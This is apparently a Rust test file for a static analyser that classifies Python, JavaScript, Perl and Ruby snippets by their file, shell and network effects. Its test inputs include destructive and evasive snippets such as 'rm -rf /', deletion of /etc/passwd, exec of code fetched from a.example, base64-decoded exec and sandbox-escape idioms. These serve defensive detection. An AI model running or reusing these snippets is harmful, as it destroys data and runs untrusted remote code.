        let cases = python.iter().map(|code| (Language::Python, *code));
        let cases = cases.chain(javascript.iter().map(|code| (Language::JavaScript, *code)));
        let plain: Vec<&str> = cases
            .filter(|(language, code)| found(*language, code).starts_with('+'))
            .map(|(_, code)| code)
            .collect();
        assert!(plain.is_empty(), "{plain:#?}");
        assert_eq!(
            found(Language::Python, python[6]),
            "? argv:/usr/bin/git,push,--force"
        );
        assert_eq!(
            found(
                Language::Python,
                "import shutil; shutil.unpack_archive('x.tar')"
            ),
            "+ file shutil.py read x.tar write-all ."
        );
    }

    #[test]
    fn code_within_code_costs_no_more_than_a_few_looks() {
        let code = format!("x='{}'\n{}", "f(a b ".repeat(1200), "exec(x);".repeat(1000));
        let mut findings = Findings::default();
        let place = Place {
            given: &[],
            home: None,
        };
        let mut reader = Reader::new(Language::Python, &place, &mut findings);
        assert!(!reader.text_of(code.as_bytes(), 0));
        assert_eq!(reader.parses, MAX_PARSES);
    }

    #[test]
    fn python_that_stays_opaque() {
        check(
            Language::Python,
            &[
                ("import numpy", "? file numpy.py"),
                ("eval(input())", "?"),
                ("exec(open('x').read())", "? read x"),
                ("exec('import os; os.system(\"id\")')", "? sh:id"),
                ("__import__('os').system('id')", "? sh:id"),
                ("getattr(__import__('os'), 'sys'+'tem')('id')", "?"),
                ("import os; f = os.system; f('id')", "? sh:id"),
                ("import os; list(map(os.system, ['id']))", "?"),
                ("import os; print(os)", "?"),
                ("import random; random._os.system('id')", "? file random.py"),
                (
                    "import os\ndef f(x): os.remove(x)\nlist(map(f, ['a']))",
                    "?",
                ),
                ("import os\na = b = os.system\nlist(map(a, ['id']))", "?"),
                ("import os\ndef f(): os.remove('x')", "? delete x"),
                ("import json; json.codecs.open('x', 'w')", "? file json.py"),
                ("().__class__.__mro__[1].__subclasses__()", "?"),
                ("(x for x in []).gi_frame.f_builtins['eval']('1')", "?"),
                ("import os; os.environ['PATH'] = '/tmp'", "?"),
                (
                    "import os\np = 'a'\nfor i in range(2):\n  os.remove(p)\n  p = '/etc/passwd'",
                    "? delete a",
                ),
                ("import os; os.remove(input())", "?"),
                (
                    "l = ['ls']; l[0] = 'rm'; import subprocess; subprocess.run(l)",
                    "? file subprocess.py argv:ls",
                ),
                (
                    "from pathlib import Path\nfor p in Path('d').iterdir(): p.unlink()",
                    "? file pathlib.py list d delete d/*",
                ),
                (
                    "from pathlib import Path\nlist(map(lambda p: p.replace('/x'), Path('d').glob('*')))",
                    "? file pathlib.py list-all d",
                ),
                (
                    "from pathlib import Path\nsorted(Path('d').glob('*'))[0].replace('/x')",
                    "? file pathlib.py list-all d",
                ),
                ("# x\rimport os", "?"),
                (
                    "from pathlib import Path\nx = list(*[list(Path('d').iterdir())])\nx[0].replace('/x')",
                    "? file pathlib.py list d",
                ),
                (
                    "import urllib.request as u; u.urlopen('http://a.example', b'x')",
                    "? file urllib.py connect a.example",
                ),
                ("#coding: utf-7\nprint(1)", "?"),
                ("x: print('a') = 1", "?"),
                ("@print\ndef f(): pass", "?"),
                ("class A: pass", "?"),
                ("import ctypes; ctypes.CDLL('x')", "? file ctypes.py"),
                ("print(1", "?"),
                (
                    "import base64; exec(base64.b64decode('aWQ='))",
                    "? file base64.py decoded",
                ),
                (
                    "import urllib.request as u; exec(u.urlopen('http://a.example').read())",
                    "? file urllib.py connect a.example network",
                ),
                ("import os; os.system('rm -rf ' + input())", "?"),
                ("from os import *; system('id')", "?"),
                (
                    "import socket; s = socket.socket(); s.connect(('a.example', 1))",
                    "? file socket.py",
                ),
            ],
        );
    }

    #[test]
    fn javascript_that_is_understood() {
        check(
            Language::JavaScript,
            &[
                ("console.log(process.version)", "+"),
                ("console.log(JSON.stringify({a: 1}, null, 2))", "+"),
                (
                    "const fs = require('fs'); fs.writeFileSync('x', 'y')",
                    "+ write x",
                ),
                (
                    "console.log(JSON.parse(require('fs').readFileSync('package.json', 'utf8')).version)",
                    "+ read package.json",
                ),
                (
                    "require('node:fs').rmSync('/srv', {recursive: true, force: true})",
                    "+ delete-all /srv",
                ),
                (
                    "require('child_process').execSync('rm -rf /')",
                    "? sh:rm -rf /",
                ),
                (
                    "const {spawn} = require('child_process'); spawn('git', ['push', '-f'])",
                    "? argv:git,push,-f",
                ),
                (
                    "fetch('https://a.example/x').then(r => r.text()).then(t => console.log(t))",
                    "? connect a.example",
                ),
                ("import { unlinkSync as u } from 'fs'; u('x')", "? delete x"),
                (
                    "[1, 2].map(x => x * 2).forEach(x => console.log(`${x}`))",
                    "?",
                ),
                (
                    "for (const p of ['a', 'b']) require('fs').unlinkSync(p)",
                    "? delete a delete b",
                ),
                ("process.stdout.write(Buffer.from('x').toString())", "+"),
                ("/a/.test('b')", "?"),
                ("console.log(process.env.HOME, process.env['USER'])", "+"),
                (
                    "require('fs').mkdirSync('a/b', {recursive: true})",
                    "+ write a/b",
                ),
                (
                    "const f = (p) => require('fs').unlinkSync(p); f('x')",
                    "? delete x",
                ),
            ],
        );
    }

    #[test]
    fn javascript_that_stays_opaque() {
        check(
            Language::JavaScript,
            &[
                ("eval('1')", "?"),
                ("eval(atob('eA=='))", "? decoded"),
                ("new Function('return 1')()", "?"),
                ("[].constructor.constructor('return process')()", "?"),
                ("[]['filter']['constructor']('x')()", "?"),
                ("[]['fil' + 'ter'][k]('x')", "?"),
                ("const {constructor: F} = []; F('x')", "?"),
                ("require('./x')", "?"),
                ("require('lodash')", "?"),
                (
                    "process.mainModule.require('child_process').exec('id')",
                    "?",
                ),
                ("const e = require('child_process').exec; [1].map(e)", "?"),
                ("require('vm').runInThisContext('1')", "?"),
                ("globalThis.process", "?"),
                ("require(x)", "?"),
                ("import('fs').then(f => f.unlinkSync('x'))", "?"),
                ("require('child_process').exec('id ' + x)", "?"),
                ("process.env.PATH = '/tmp'", "?"),
                ("require('fs').readFileSync('x', {flag: 'w'})", "? read x"),
                ("require('fs').readFileSync('x', {...o})", "? read x"),
                (
                    "fetch('https://a.example', {method: 'POST', body: 'x'})",
                    "? connect a.example",
                ),
                ("fetch(u).then(r => r.text()).then(eval)", "?"),
                ("a\u{2028}b", "?"),
            ],
        );
    }

    #[test]
    fn perl_and_ruby_are_looked_through() {
        check(
            Language::Perl,
            &[
                ("print 1", "?"),
                ("system('rm -rf /')", "? sh:rm -rf /"),
                ("system \"rm\", \"-rf\", \"/\"", "? argv:rm,-rf,/"),
                ("exec {'sh'} 'x'", "? sh:'sh'"),
                ("unlink 'a', 'b'", "? delete a delete b"),
                (
                    "open(F, '>/etc/x'); open(my $f, '<', 'b')",
                    "? write /etc/x read b",
                ),
                ("`id`; qx(id)", "? sh:id sh:id"),
                ("system(\"rm $x\")", "?"),
            ],
        );
        check(
            Language::Ruby,
            &[
                (
                    "File.delete('x'); FileUtils.rm_rf('/srv')",
                    "? delete x delete-all /srv",
                ),
                (
                    "File.open('/etc/x', 'w') { |f| f.puts 1 }",
                    "? write /etc/x",
                ),
                ("h.delete('x')", "?"),
            ],
        );
    }

    #[test]
    fn hostile_code_ends() {
        let nested = "(".repeat(5_000);
        let calls = "f(".repeat(5_000);
        let functions = "def f(x):\n  f(x); f(x); f(x); f(x)\nf(1)\n".repeat(50);
        let loops = "for a in ['x','y']:\n".to_owned();
        let loops: String = (0..12)
            .map(|depth| " ".repeat(depth) + &loops)
            .chain([" ".repeat(12) + "print(1)"])
            .collect();
        for language in Language::ALL {
            for text in [&nested, &calls, &functions, &loops, &"[".repeat(16_000)] {
                found(language, text);
            }
            assert_eq!(found(language, &"x".repeat(17_000)), "?");
        }
        assert_eq!(found(Language::Python, &nested), "?");
        assert_eq!(found(Language::JavaScript, &calls), "?");
    }
}
